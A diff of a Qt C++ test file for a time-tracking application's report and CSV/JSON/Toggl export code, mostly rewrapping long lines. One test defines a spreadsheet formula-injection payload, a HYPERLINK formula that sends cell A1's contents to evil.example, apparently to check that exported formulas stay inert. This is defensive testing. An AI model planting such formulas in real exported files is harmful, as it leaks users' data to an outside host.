@@ -37,7 +37,11 @@ QStringList taskTotals(const test::TestStore &s)
         return {report.error().message};
     QStringList out;
     for (const ReportGroup &g : report->groups)
-        out << QStringLiteral("%1 %2 ms %3 cents %4").arg(g.name).arg(g.billableMs).arg(g.costCents).arg(g.entries);
+        out << QStringLiteral("%1 %2 ms %3 cents %4")
+                   .arg(g.name)
+                   .arg(g.billableMs)
+                   .arg(g.costCents)
+                   .arg(g.entries);
     out << QStringLiteral("total %1 ms %2 cents %3")
                .arg(report->total.billableMs)
                .arg(report->total.costCents)
@@ -165,11 +169,11 @@ private Q_SLOTS:
         test::TestStore source;
         demoWithPauses(source, false);
         for (TransferFormat format : {TransferFormat::Csv, TransferFormat::Json}) {
-            const QByteArray data =
-                EntryExporter(*source.service).write(ReportService(*source.service).entries({}), format);
+            const QByteArray data = EntryExporter(*source.service)
+                                        .write(ReportService(*source.service).entries({}), format);
             // The timers' 1.35 s pauses are written to the millisecond.
-            QVERIFY(data.contains(format == TransferFormat::Json ? "\"pausedMs\": 1350"
-                                                                 : ",1350\r\n"));
+            QVERIFY(
+                data.contains(format == TransferFormat::Json ? "\"pausedMs\": 1350" : ",1350\r\n"));
         }
     }
 
@@ -181,7 +185,8 @@ private Q_SLOTS:
         QTest::addColumn<TransferFormat>("format");
         QTest::newRow("csv") << QStringLiteral("round1_demo.csv") << TransferFormat::Csv;
         QTest::newRow("json") << QStringLiteral("round1_demo.json") << TransferFormat::Json;
-        QTest::newRow("toggl") << QStringLiteral("round1_demo.toggl.csv") << TransferFormat::TogglCsv;
+        QTest::newRow("toggl") << QStringLiteral("round1_demo.toggl.csv")
+                               << TransferFormat::TogglCsv;
     }
     void round1FilesStillImport()
     {
@@ -205,7 +210,8 @@ private Q_SLOTS:
     // back unchanged.
     void formulasAreInertAndSurviveARoundTrip()
     {
-        const QString hyperlink = QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")");
+        const QString hyperlink =
+            QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")");
         const QString sum = QStringLiteral("@SUM(A1)");
         test::TestStore source;
         const auto user = source.service->ensureUser(sum);
